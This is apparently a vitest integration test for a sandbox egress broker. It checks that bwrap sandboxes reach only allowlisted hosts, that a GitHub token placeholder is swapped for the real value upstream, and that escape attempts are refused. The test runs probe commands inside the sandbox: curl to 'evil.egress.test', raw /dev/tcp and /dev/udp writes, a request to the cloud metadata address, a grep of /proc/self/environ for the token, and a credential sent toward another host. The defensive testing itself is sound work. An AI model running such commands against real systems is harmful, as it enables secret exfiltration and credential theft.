import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Broker } from '../../src/broker/broker.js';
import type { EgressEvent } from '../../src/egress/types.js';
import { bwrapInstall, describeBwrap, testRange } from '../helpers/bwrap.js';
import { createEgressHosts, type EgressHosts } from '../helpers/egress-hosts.js';
import { describeNetns } from '../helpers/netns.js';

/*
 * Egress through the broker on real bwrap sandboxes: an allowlist profile with a secretless
 * credential, the host's curl inside the sandbox, real HTTP(S) test hosts.
 */

const GH_VALUE = 'ghp_bwrap_REAL_value_never_in_the_sandbox';

describeBwrap('egress on bwrap sandboxes (allowlist, credentials)', () => describeNetns('with test hosts', () => {
  let hosts: EgressHosts;
  let broker: Broker;
  const events: EgressEvent[] = [];
  const install = { current: undefined as ReturnType<typeof bwrapInstall> | undefined };

  beforeAll(async () => {
    hosts = await createEgressHosts({ gitToken: GH_VALUE });
  }, 60_000);

  afterAll(async () => {
    await hosts?.close();
  });

  async function open(): Promise<Broker> {
    install.current = bwrapInstall('berth-egress-bwrap-', testRange());
    broker = await install.current.open({
      egressProxy: { upstreamCaFile: hosts.caFile },
      egress: { mode: 'allowlist', allow: ['api.egress.test', 'other.egress.test'], hosts: hosts.hostsEntry() },
      credentials: { GITHUB_TOKEN: { from: 'TEST_GH_VALUE', hosts: ['api.egress.test'] } },
    }, { env: { TEST_GH_VALUE: GH_VALUE } });
    broker.observe({ callEnded: () => {}, refused: () => {}, reaped: () => {}, egress: (e) => events.push(e) });
    return broker;
  }

  it('an allowed name answers with the real value put in upstream; anything else gets the 403; no raw route', async () => {
    const b = await open();
    const r = await b.session({ session: 'b1' }).exec([
      'curl -sS https://api.egress.test/gh -H "Authorization: Bearer $GITHUB_TOKEN"',
      'printf "%s\\n" "${GITHUB_TOKEN:0:9}"',
      'grep -c ghp_bwrap_REAL /proc/self/environ; true',
      'curl -sS -o /dev/null https://evil.egress.test/ 2>&1; echo "exit $?"',
      `timeout 5 bash -c 'echo x > /dev/tcp/${hosts.addresses.api}/443' 2>/dev/null; echo "tcp $?"`,
    ].join('; '));
    const lines = r.stdout.split('\n');
    expect(lines.slice(0, 3)).toEqual(['hello from api.egress.test', 'berth-ph-', '0']);
    expect(r.stdout).toMatch(/CONNECT tunnel failed, response 403/);
    expect(r.stdout).toMatch(/^tcp [1-9]/m);
    expect(hosts.seen.find((s) => s.url === '/gh')?.authorization).toBe(`Bearer ${GH_VALUE}`);
    expect(events.some((e) => !e.allowed && e.host === 'evil.egress.test')).toBe(true);
  });

  it('plain HTTP and git clone with the placeholder arrive upstream with the real value; the placeholder toward another allowed host, raw IPs and the metadata address get the 403 and are audited; no DNS, no UDP', async () => {
    const b = await open();
    const before = hosts.seen.length;
    const r = await b.session({ session: 'b2' }).exec([
      'curl -sS http://api.egress.test/plain',
      'cd /tmp && git clone -q "https://x-access-token:$GITHUB_TOKEN@api.egress.test/repo.git" repo 2>&1; echo "clone $?"',
      'cat /tmp/repo/README; grep -rc ghp_bwrap_REAL /tmp/repo/.git/config; true',
      'curl -sS http://other.egress.test/x -H "Authorization: Bearer $GITHUB_TOKEN" | head -c 200; echo " other $?"',
      `curl -sS -o /dev/null https://${hosts.addresses.api}/ 2>&1 | tail -c 80; echo " ip $?"`,
      'curl -sS http://169.254.169.254/ 2>&1 | head -c 200; echo " meta"',
      'getent hosts api.egress.test >/dev/null; echo "dns $?"',
      `timeout 5 bash -c 'echo x > /dev/udp/${hosts.addresses.api}/53' 2>/dev/null; echo "udp $?"`,
    ].join('; '));
    const lines = r.stdout.split('\n');
    expect(lines.slice(0, 4)).toEqual(['hello from api.egress.test', 'clone 0', 'hello from the test repo', '0']);
    const basic = `Basic ${Buffer.from(`x-access-token:${GH_VALUE}`).toString('base64')}`;
    expect(hosts.seen.slice(before).some((s) => s.url?.startsWith('/repo.git/') === true && s.authorization === basic)).toBe(true);
    // The placeholder toward a host that is not its credential's never left.
    expect(hosts.seen.slice(before).some((s) => s.host === 'other.egress.test')).toBe(false);
    expect(r.stdout).toMatch(/berth egress: other\.egress\.test:80 refused \(exfiltration: a placeholder of GITHUB_TOKEN\).*\n other 0/);
    expect(r.stdout).toMatch(/CONNECT tunnel failed, response 403\n ip/);
    expect(r.stdout).toMatch(/berth egress: 169\.254\.169\.254:80 refused .*\n meta/);
    expect(r.stdout).toMatch(/^dns [1-9]/m);
    expect(r.stdout).toMatch(/^udp [1-9]/m);
    const refused = events.filter((e) => !e.allowed);
    expect(refused.some((e) => e.host === 'other.egress.test' && e.rule === 'exfiltration')).toBe(true);
    expect(refused.map((e) => e.host)).toEqual(expect.arrayContaining([hosts.addresses.api, '169.254.169.254']));
    expect(r.stdout).not.toContain(GH_VALUE);
  });
}));
